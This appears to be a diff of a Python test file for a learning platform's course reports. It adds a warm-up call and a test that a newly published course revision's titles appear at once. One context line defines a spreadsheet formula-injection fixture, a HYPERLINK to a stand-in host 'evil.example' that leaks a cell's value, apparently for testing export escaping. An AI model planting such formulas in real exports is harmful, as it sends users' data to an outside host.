@@ -17,6 +17,7 @@ from sqlalchemy import select, text
 
 from courses.models import CompletionSource, Enrolment, EnrolmentStatus, LessonCompletion
 from courses.reports import Grouping, ReportFilters, report_page, report_rows, totals
+from courses.revisions import draft_for, publish
 from sonores_lms.permissions import Role
 
 EVIL_FIRST = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -293,12 +294,25 @@ def test_query_count_does_not_grow_with_the_data(network, db, admin_client, crea
             counts[url] = counted.count
         return counts
 
+    measure()  # warm-up: settings, translations, the plan's outline
     _grow(db, network, create_user, 3)
     small = measure()
     _grow(db, network, create_user, 40)
     large = measure()
     assert small == large
     assert max(large.values()) < 15, large
+
+
+def test_a_newly_published_revision_is_read_afresh(network, db, admin_client, dummy_user):
+    """The plan's outline is kept in memory, per revision: publishing a new one shows its titles at once."""
+    page = admin_client.get("/courses/reports/courses?year=2027").get_data(as_text=True)
+    assert "Cours 1" in page and "Cours renommé" not in page
+    draft = draft_for(network.plan, actor=dummy_user)
+    draft.axes[0].tracks[0].courses[0].set_texts("fr", {"title": "Cours renommé", "summary": "Résumé"})
+    publish(draft, actor=dummy_user)
+    db.session.flush()
+    page = admin_client.get("/courses/reports/courses?year=2027").get_data(as_text=True)
+    assert "Cours renommé" in page and ">Cours 1<" not in page
 
 
 def test_the_admin_navigation_offers_the_reports_to_those_who_may_see_them(network, admin_client, director, client_as):
